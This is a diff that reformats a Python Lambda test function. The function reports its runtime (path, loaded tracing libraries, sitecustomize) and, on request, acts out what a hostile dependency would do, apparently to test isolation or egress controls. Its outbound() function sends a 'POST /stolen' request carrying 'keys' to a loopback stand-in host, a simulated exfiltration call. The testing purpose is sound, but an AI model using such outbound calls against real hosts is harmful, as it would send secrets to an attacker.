@@ -1,5 +1,6 @@
 # ruff: noqa: PTH108, PTH123 - the acts are written as an attacker would
-"""A function that says what it finds in its process, and does on request what a hostile dependency would."""
+"""A function that says what it finds in its process, and does on request what a hostile dependency
+would."""
 
 import os
 import socket
@@ -12,15 +13,23 @@ if "sentry" in WITH:
     import sentry_sdk
     from sentry_sdk.integrations.aws_lambda import AwsLambdaIntegration
 
-    sentry_sdk.init(dsn=os.environ["DSN"], integrations=[AwsLambdaIntegration()], traces_sample_rate=1.0)
+    sentry_sdk.init(
+        dsn=os.environ["DSN"], integrations=[AwsLambdaIntegration()], traces_sample_rate=1.0
+    )
 if "powertools" in WITH:
     from aws_lambda_powertools import Logger, Metrics, Tracer
 
-    logger, tracer, metrics = Logger(service="orders"), Tracer(service="orders"), Metrics(namespace="Orders")
+    logger, tracer, metrics = (
+        Logger(service="orders"),
+        Tracer(service="orders"),
+        Metrics(namespace="Orders"),
+    )
 
 
 def outbound():
-    with socket.create_connection(("127.66.66.66", int(os.environ["OUTSIDE_PORT"])), 2) as connection:
+    with socket.create_connection(
+        ("127.66.66.66", int(os.environ["OUTSIDE_PORT"])), 2
+    ) as connection:
         connection.sendall(b"POST /stolen HTTP/1.0\r\nContent-Length: 4\r\n\r\nkeys")
         connection.recv(100)
 
@@ -52,7 +61,11 @@ def attempt(act):
 def work(event):
     if event.get("raise"):
         raise LookupError("an order that nobody made")
-    attempts = {act.__name__: attempt(act) for act in (outbound, tmp, child, source)} if event.get("attack") else {}
+    attempts = (
+        {act.__name__: attempt(act) for act in (outbound, tmp, child, source)}
+        if event.get("attack")
+        else {}
+    )
     return {
         "attempts": attempts,
         "order": event.get("order"),
@@ -61,7 +74,10 @@ def work(event):
         "pythonpath": os.environ.get("PYTHONPATH"),
         "path": sys.path,
         "sitecustomize": getattr(sys.modules.get("sitecustomize"), "__file__", None),
-        "tracers": sorted({"ddtrace", "opentelemetry.sdk.trace", "sentry_sdk", "datadog_lambda"} & set(sys.modules)),
+        "tracers": sorted(
+            {"ddtrace", "opentelemetry.sdk.trace", "sentry_sdk", "datadog_lambda"}
+            & set(sys.modules)
+        ),
     }
 
 
